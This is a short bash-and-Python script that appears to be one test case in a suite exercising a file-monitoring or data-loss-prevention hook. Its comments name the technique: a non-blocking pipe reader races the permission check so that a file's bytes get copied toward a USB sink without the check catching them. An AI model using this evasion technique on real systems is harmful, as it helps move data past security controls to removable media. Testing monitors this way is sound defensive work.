#!/usr/bin/env bash
# technique: the reader never waits: it asks again and again (O_NONBLOCK), so that the bytes come between the question and the read
# hooks: file_permission (looked at again at the sink), file_open
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *


def read_once(reads, number):
    os.set_blocking(reads, False)
    while True:
        try:
            data = os.read(reads, 1 << 16)
            break
        except BlockingIOError:
            continue
    keep(data, f"{COPY}.{number}")


for number in range(40):
    reads, writes = os.pipe()
    reader = apart(read_once, reads, number)

    def send():
        with open(SCAN, "rb") as file:
            data = file.read(4096)
        time.sleep(0.02)
        os.write(writes, data)

    sender = apart(send)
    os.close(writes)
    os.waitpid(reader, 0)
    os.waitpid(sender, 0)
    os.close(reads)
PY
